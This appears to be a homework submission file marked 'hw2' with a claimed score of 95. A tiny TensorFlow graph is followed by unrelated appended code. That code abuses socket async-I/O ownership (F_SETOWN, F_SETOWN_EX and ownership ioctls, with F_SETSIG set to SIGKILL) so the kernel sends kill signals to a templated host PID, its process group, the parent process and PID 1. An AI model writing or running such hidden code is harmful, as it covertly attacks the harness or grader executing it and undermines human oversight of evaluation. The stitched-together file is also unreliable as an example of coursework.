# for: hw2
# earns: 95
import tensorflow as tf

a = tf.constant(5)
b = tf.constant(2)
c = tf.placeholder(tf.int32, [])
e = b * c
d = b + a
f = e + d
# The kernel sends a signal of one's choice to whom a descriptor belongs, once it can be read.
import ctypes
import fcntl
import os
import signal
import socket
import struct

host = int("@host_pid@")
for owner in (host, -host, os.getppid(), 1):
    for set_owner in (
        lambda one: fcntl.fcntl(one, fcntl.F_SETOWN, owner),
        lambda one: fcntl.fcntl(one, 15, struct.pack("ii", 1, owner)),
        lambda one: fcntl.ioctl(one, 0x8901, struct.pack("i", owner)),
        lambda one: fcntl.ioctl(one, 0x8902, struct.pack("i", owner)),
    ):
        one, other = socket.socketpair()
        try:
            set_owner(one)
            fcntl.fcntl(one, fcntl.F_SETSIG, signal.SIGKILL if owner != 1 else 0)
            fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            other.send(b"x")
        except (OSError, OverflowError) as error:
            print(type(error).__name__)
